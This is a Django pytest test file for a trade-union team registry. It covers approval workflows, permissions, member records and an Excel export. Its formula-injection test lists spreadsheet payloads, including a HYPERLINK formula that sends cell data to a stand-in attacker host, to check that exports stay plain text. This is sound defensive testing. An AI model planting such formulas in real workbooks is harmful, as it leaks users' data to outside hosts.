"""Teams: registration and approval, members and mentor pairs, the staff's list and export."""

import re
import threading
from datetime import date, datetime, timedelta
from urllib.parse import unquote

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import close_old_connections
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditEvent
from teams.models import Member, Team
from teams.selectors import team_list, teams_visible_to
from teams.services import (
    TeamStateError,
    member_save,
    mentor_pair_save,
    team_approve,
    team_move,
    team_register,
    team_reject,
    team_resubmit,
)
from tests.factories import UserFactory, make_campaign
from tests.workbooks import download, sheet_of, sheet_xml, workbook_of

pytestmark = pytest.mark.django_db


def register(leader, union, name="甲班", **fields):
    return team_register(
        actor=leader,
        grassroots_union=union,
        name=name,
        enterprise="甲市机械厂",
        industry=fields.pop("industry", "C"),
        **fields,
    )


def test_a_leader_registers_and_the_grassroots_staff_approve(tree, role_users):
    leader = role_users["leader"]
    team = register(leader, tree.grassroots_a1)
    assert team.status == Team.Status.PENDING and list(team.leaders.all()) == [leader]
    team_approve(actor=role_users["staff_unit"], team=team)
    team.refresh_from_db()
    assert team.status == Team.Status.APPROVED
    actions = AuditEvent.objects.filter(target_type="teams.team", target_id=str(team.pk)).values_list(
        "action", flat=True
    )
    assert sorted(actions) == ["teams.approve", "teams.register"]


def test_staff_of_a_sibling_city_cannot_approve(tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    with pytest.raises(PermissionDenied):
        team_approve(actor=role_users["staff_sibling"], team=team)
    with pytest.raises(PermissionDenied):
        team_approve(actor=role_users["leader"], team=team)


def test_a_team_belongs_to_a_grassroots_union(tree, role_users):
    with pytest.raises(ValidationError):
        register(role_users["leader"], tree.city_a)
    assert not Team.objects.exists()


def test_two_teams_of_one_union_cannot_share_a_name(tree, role_users):
    register(role_users["leader"], tree.grassroots_a1)
    with pytest.raises(ValidationError) as caught:
        register(UserFactory(), tree.grassroots_a1)
    assert "name" in caught.value.message_dict
    assert register(UserFactory(), tree.grassroots_b1).name == "甲班"


def test_reject_needs_a_reason_then_the_leader_corrects_and_resubmits(tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    with pytest.raises(ValidationError):
        team_reject(actor=role_users["staff_unit"], team=team, reason=" ")
    team_reject(actor=role_users["staff_unit"], team=team, reason="请补充车间全称")
    team.refresh_from_db()
    assert (team.status, team.reject_reason) == (Team.Status.REJECTED, "请补充车间全称")
    team_resubmit(actor=role_users["leader"], team=team)
    team.refresh_from_db()
    assert team.status == Team.Status.PENDING


def test_a_second_decision_on_the_same_registration_is_refused(tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    team_approve(actor=role_users["staff_unit"], team=team)
    with pytest.raises(TeamStateError):
        team_reject(actor=role_users["staff_ancestor"], team=team, reason="重复")
    team.refresh_from_db()
    assert team.status == Team.Status.APPROVED


@pytest.mark.django_db(transaction=True)
def test_two_staff_deciding_at_once_decide_once(tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    outcomes, barrier = [], threading.Barrier(2)

    def decide(action):
        barrier.wait()
        try:
            fresh = Team.objects.get(pk=team.pk)
            if action == "approve":
                team_approve(actor=role_users["staff_unit"], team=fresh)
            else:
                team_reject(actor=role_users["staff_ancestor"], team=fresh, reason="不符合条件")
            outcomes.append(action)
        except TeamStateError:
            outcomes.append("refused")
        finally:
            close_old_connections()

    threads = [threading.Thread(target=decide, args=(a,)) for a in ("approve", "reject")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert outcomes.count("refused") == 1
    decisions = AuditEvent.objects.filter(action__in=["teams.approve", "teams.reject"], target_id=str(team.pk))
    assert decisions.count() == 1


def test_moving_a_team_needs_staff_over_both_unions_and_is_audited(tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    with pytest.raises(PermissionDenied):
        team_move(actor=role_users["staff_unit"], team=team, new_union=tree.grassroots_b1)
    team_move(actor=role_users["staff_ancestor"], team=team, new_union=tree.grassroots_b1)
    team.refresh_from_db()
    assert team.grassroots_union == tree.grassroots_b1
    event = AuditEvent.objects.get(action="teams.move")
    assert event.details == {"from": tree.grassroots_a1.name, "to": tree.grassroots_b1.name}


def test_members_and_mentor_pairs(tree, role_users):
    leader = role_users["leader"]
    team = register(leader, tree.grassroots_a1)
    master = member_save(actor=leader, team=team, name="王师傅", skill_grade="senior_technician", role="leader")
    apprentice = member_save(actor=leader, team=team, name="小李", skill_grade="junior", joined_on=date(2025, 1, 1))
    pair = mentor_pair_save(actor=leader, team=team, mentor=master, apprentice=apprentice, started_on=date(2025, 3, 1))
    assert str(pair) == "王师傅 → 小李"
    with pytest.raises(ValidationError):
        mentor_pair_save(actor=leader, team=team, mentor=master, apprentice=master, started_on=date(2025, 3, 1))
    other_team = register(UserFactory(), tree.grassroots_b1)
    stranger = member_save(actor=other_team.leaders.get(), team=other_team, name="外人")
    with pytest.raises(ValidationError):
        mentor_pair_save(actor=leader, team=team, mentor=master, apprentice=stranger, started_on=date(2025, 3, 1))
    with pytest.raises(ValidationError):
        member_save(actor=leader, team=team, member=apprentice, left_on=date(2024, 1, 1))  # before joining


def test_the_leader_of_another_team_cannot_edit_mine(tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    other = UserFactory(unit=tree.grassroots_a1)
    register(other, tree.grassroots_a1, name="乙班")
    with pytest.raises(PermissionDenied):
        member_save(actor=other, team=team, name="冒名")
    assert team not in set(teams_visible_to(other))


def test_staff_see_the_teams_of_their_subtree_in_pinyin_order(tree, role_users):
    for name in ("张家班", "王家班", "安全班"):
        register(UserFactory(), tree.grassroots_a1, name=name)
    register(UserFactory(), tree.grassroots_b1, name="乙市班")
    names = [t.name for t in team_list(user=role_users["staff_unit"])]
    assert names == ["安全班", "王家班", "张家班"]


def test_registration_form_keeps_what_was_typed_when_the_union_is_unknown(client, tree, role_users):
    client.force_login(role_users["leader"])
    data = {
        "grassroots_union": "不存在的工会",
        "name": "甲班",
        "enterprise": "甲市机械厂",
        "industry": "C",
        "category": "mengtao",
    }
    response = client.post(reverse("teams:register"), data)
    page = response.content.decode()
    assert "请向所在工会核实" in page
    assert 'value="甲市机械厂"' in page and 'value="不存在的工会"' in page
    assert not Team.objects.exists()
    data["grassroots_union"] = tree.grassroots_a1.code
    response = client.post(reverse("teams:register"), data)
    team = Team.objects.get()
    assert response["Location"] == reverse("teams:detail", args=[team.pk])


def test_a_duplicate_name_in_the_form_gets_a_chinese_message(client, tree, role_users):
    register(UserFactory(), tree.grassroots_a1)
    client.force_login(role_users["leader"])
    data = {
        "grassroots_union": tree.grassroots_a1.code,
        "name": "甲班",
        "enterprise": "甲市机械厂",
        "industry": "C",
        "category": "mengtao",
    }
    assert "该基层工会已有同名班组" in client.post(reverse("teams:register"), data).content.decode()


def test_staff_register_a_team_and_invite_its_leader(client, tree, role_users, django_capture_on_commit_callbacks):
    client.force_login(role_users["staff_unit"])
    data = {
        "grassroots_union": tree.grassroots_a1.code,
        "name": "电工班",
        "enterprise": "甲市机械厂",
        "industry": "C",
        "category": "mengtao",
        "leader_name": "周勇",
        "leader_email": "zhouyong@example.org.cn",
    }
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("teams:create"), data)
    team = Team.objects.get(name="电工班")
    assert response.status_code == 302 and team.status == Team.Status.APPROVED
    leader = team.leaders.get()
    assert leader.email == "zhouyong@example.org.cn" and not leader.has_usable_password()
    assert len(mail.outbox) == 1 and "电工班" in mail.outbox[0].body
    link = re.search(r"http://testserver(/accounts/password/reset/\S+/)", mail.outbox[0].body).group(1)
    form_url = client.get(link, follow=True).redirect_chain[-1][0]
    client.post(form_url, {"new_password1": "Banzu-Mima-88", "new_password2": "Banzu-Mima-88"})
    leader.refresh_from_db()
    assert leader.check_password("Banzu-Mima-88")


def test_open_campaigns_follow_the_scope_and_industries(client, tree, role_users):
    leader = role_users["leader"]
    team = register(leader, tree.grassroots_a1, industry="C")
    team_approve(actor=role_users["staff_unit"], team=team)
    in_scope = make_campaign(organiser=tree.province, publish=True, title="全省通知")
    make_campaign(organiser=tree.city_b, publish=True, title="乙市通知", document_number="乙工发〔2026〕1号")
    make_campaign(
        organiser=tree.city_a,
        publish=True,
        title="甲市矿业通知",
        document_number="甲工发〔2026〕1号",
        industries=["B"],
    )
    closed = make_campaign(organiser=tree.city_a, publish=True, title="已截止通知", document_number="甲工发〔2026〕2号")
    closed.application_deadline = timezone.now() - timedelta(seconds=1)
    closed.application_opens_at = timezone.now() - timedelta(days=2)
    closed.save()
    client.force_login(leader)
    page = client.get(reverse("teams:mine")).content.decode()
    assert in_scope.title in page
    assert "乙市通知" not in page and "甲市矿业通知" not in page and "已截止通知" not in page


def test_the_export_matches_the_list_filters(client, tree, role_users):
    register(UserFactory(), tree.grassroots_a1, name="安全班")
    register(UserFactory(), tree.grassroots_a1, name="张家班", industry="B")
    client.force_login(role_users["staff_unit"])
    response = client.get(reverse("teams:export"), {"industry": "C"})
    sheet = sheet_of(response)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "班组名称"
    assert [row[0] for row in rows[1:]] == ["安全班"]


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_team_text_is_exported_as_text_never_as_a_formula(client, tree, role_users):
    for text in FORMULA_LIKE:
        team_register(
            actor=UserFactory(),
            grassroots_union=tree.grassroots_a1,
            name=text,
            enterprise=text,
            region=text,
            industry="C",
        )
    client.force_login(role_users["staff_unit"])
    data = download(client.get(reverse("teams:export")))
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    sheet = workbook_of(data).active
    exported = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    # A carriage return comes back as the line feed XML turns it into (Excel's line break in a cell).
    expected = [text.replace("\r", "\n") for text in FORMULA_LIKE]
    assert sorted(exported) == sorted(expected)
    for text in expected:
        name, enterprise, _union, _industry, region = exported[text][:5]
        assert name.data_type == enterprise.data_type == region.data_type == "s"
        assert enterprise.value == region.value == text


def test_the_team_export_is_a_formatted_workbook_with_a_chinese_name(client, tree, role_users):
    team = register(UserFactory(), tree.grassroots_a1, name="赵梦桃小组", founded_on=date(1952, 5, 1))
    client.force_login(role_users["staff_unit"])
    response = client.get(reverse("teams:export"))
    assert unquote(response["Content-Disposition"].split("''", 1)[1]) == f"班组名单-{timezone.localdate():%Y%m%d}.xlsx"
    assert response["Cache-Control"] == "private, no-store"
    sheet = sheet_of(response)
    header = [cell.value for cell in sheet[1]]
    assert header == [
        "班组名称",
        "所在单位",
        "基层工会",
        "行业",
        "地区",
        "类别",
        "成立日期",
        "在册人数",
        "状态",
        "登记时间",
    ]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:J2"
    # Every header fits its column (a Chinese character is two wide), and a column of names is wider still.
    for cell in sheet[1]:
        assert sheet.column_dimensions[cell.column_letter].width >= 2 * len(cell.value) + 2
    assert sheet.column_dimensions["A"].width >= 20 and sheet.column_dimensions["C"].width >= 20
    row = dict(zip(header, sheet[2], strict=True))
    assert row["班组名称"].value == "赵梦桃小组" and row["状态"].value == "待审核" and row["行业"].value == "C 制造业"
    assert row["成立日期"].is_date and row["成立日期"].value == datetime(1952, 5, 1)
    assert row["成立日期"].number_format == "yyyy-mm-dd"
    registered = timezone.localtime(team.created_at).replace(tzinfo=None, second=0, microsecond=0)
    assert row["登记时间"].is_date and row["登记时间"].value.replace(second=0, microsecond=0) == registered
    assert row["在册人数"].data_type == "n"


@pytest.mark.parametrize("rows", [1, 3])
def test_list_query_count(client, tree, role_users, django_assert_num_queries, rows):
    for n in range(rows):
        team = register(UserFactory(), tree.grassroots_a1, name=f"班组{n}")
        member_save(actor=team.leaders.get(), team=team, name="组员")
    client.force_login(role_users["staff_unit"])
    with django_assert_num_queries(6):  # session, the user with their roles, count, page, its unions, the bell
        response = client.get(reverse("teams:list"))
    assert len(response.context["page_obj"]) == rows


@pytest.mark.parametrize(("search", "queries"), [("细纱甲", 5), ("细纱", 6)])
def test_a_search_of_the_trigram_indexes_counts_its_matches_in_the_page_s_query(
    client, tree, role_users, django_assert_num_queries, search, queries
):
    for n in range(3):
        register(UserFactory(), tree.grassroots_a1, name=f"细纱甲班{n}")
    client.force_login(role_users["staff_unit"])
    # session, the user with their roles, the page (with its count, or a count of its own for a search
    # shorter than a trigram, which walks the sort index), its unions, the bell
    with django_assert_num_queries(queries):
        response = client.get(reverse("teams:list"), {"q": search})
    assert response.context["page_obj"].paginator.count == 3


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_a_row_of_the_list_shows_the_team_its_union_and_the_labels(client, tree, role_users, language):
    from django.utils import translation

    from campaigns.industries import Industry

    team = register(UserFactory(), tree.grassroots_a1, name="细纱甲班", industry="C")
    tree.grassroots_a1.short_name = "机械厂工会"
    tree.grassroots_a1.save(update_fields=["short_name"])
    client.force_login(role_users["staff_unit"])
    page = client.get(reverse("teams:list"), HTTP_ACCEPT_LANGUAGE=language).content.decode()
    with translation.override(language):
        industry, status = str(Industry("C").label), str(Team.Status.PENDING.label)
    link = f'<a href="/teams/{team.pk}/">细纱甲班</a>'
    row = re.search(r"<tr>\s*<td>" + re.escape(link) + r"</td>.*?</tr>", page, re.S).group(0)
    cells = [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
    assert cells == ["细纱甲班", "甲市机械厂", "机械厂工会", industry, "0", status]
    assert 'class="badge team-pending"' in row


@pytest.mark.parametrize("rows", [1, 3])
def test_export_query_count(client, tree, role_users, django_assert_num_queries, rows):
    for n in range(rows):
        register(UserFactory(), tree.grassroots_a1, name=f"班组{n}")
    client.force_login(role_users["staff_unit"])
    # The rows are read while the file is sent: the count covers the whole download.
    with django_assert_num_queries(3):  # session, the user with their roles, the rows
        data = download(client.get(reverse("teams:export")))
    assert len(list(workbook_of(data).active.iter_rows())) == rows + 1


def test_a_member_phone_never_reaches_the_export_or_the_team_page(client, tree, role_users):
    team = register(role_users["leader"], tree.grassroots_a1)
    member_save(actor=role_users["leader"], team=team, name="王师傅", phone="13800000000")
    client.force_login(role_users["staff_unit"])
    assert "13800000000" not in client.get(reverse("teams:detail", args=[team.pk])).content.decode()
    assert Member.objects.get().phone == "13800000000"


def test_an_unknown_union_suggests_the_close_ones(client, tree, role_users):
    client.force_login(role_users["leader"])
    response = client.post(
        reverse("teams:register"),
        {"grassroots_union": "机械厂", "name": "甲班", "enterprise": "甲市机械厂", "industry": "C"},
    )
    page = response.content.decode()
    assert "您要找的是否是：甲市机械厂工会（T-A-1）" in page
    assert 'value="机械厂"' in page  # what was typed stays


def test_the_team_keeps_its_number_of_current_members(client, tree, role_users):
    leader = role_users["leader"]
    team = register(leader, tree.grassroots_a1)
    first = member_save(actor=leader, team=team, name="王师傅", joined_on=date(2020, 1, 1))
    member_save(actor=leader, team=team, name="小李")
    team.refresh_from_db()
    assert team.member_count == 2
    member_save(actor=leader, team=team, member=first, left_on=date(2025, 6, 30))  # leaves the team
    team.refresh_from_db()
    assert team.member_count == 1
    client.force_login(role_users["staff_unit"])
    [listed] = client.get(reverse("teams:list")).context["page_obj"]
    assert listed.member_count == 1


def test_teams_and_applications_follow_their_union_wherever_it_moves(client, tree, role_users):
    """Teams and applications carry a copy of their grassroots union's path (the index the lists use):
    it follows a team moved to another union, and a union moved to another city."""
    from accounts.models import UnionUnit
    from accounts.services import unit_create, unit_move
    from teams.models import Application
    from teams.services import application_start

    leader = role_users["leader"]
    team = register(leader, tree.grassroots_a1)
    Team.objects.filter(pk=team.pk).update(status=Team.Status.APPROVED)
    campaign = make_campaign(organiser=tree.province, publish=True)
    application = application_start(actor=leader, team=team, campaign=campaign)
    assert Team.objects.get(pk=team.pk).union_path == tree.grassroots_a1.path
    assert Application.objects.get(pk=application.pk).union_path == tree.grassroots_a1.path

    team_move(actor=role_users["staff_ancestor"], team=team, new_union=tree.grassroots_b1)
    assert Team.objects.get(pk=team.pk).union_path == tree.grassroots_b1.path
    assert Application.objects.get(pk=application.pk).union_path == tree.grassroots_b1.path

    # A unit added beside existing ones shifts no one's path; a moved union takes its teams along.
    unit_create(actor=None, parent=tree.city_b, name="乙市电厂工会", kind=UnionUnit.Kind.GRASSROOTS, code="T-B-0")
    assert UnionUnit.objects.get(pk=tree.grassroots_b1.pk).path == tree.grassroots_b1.path
    unit_move(actor=None, unit=tree.grassroots_b1, new_parent=tree.city_a)
    moved = UnionUnit.objects.get(pk=tree.grassroots_b1.pk)
    assert moved.path.startswith(tree.city_a.path)
    assert Team.objects.get(pk=team.pk).union_path == moved.path
    assert Application.objects.get(pk=application.pk).union_path == moved.path
    # So city A's staff now find the team and its application; city B's no longer do.
    assert team in teams_visible_to(role_users["staff_unit"])
    assert team not in teams_visible_to(role_users["staff_sibling"])
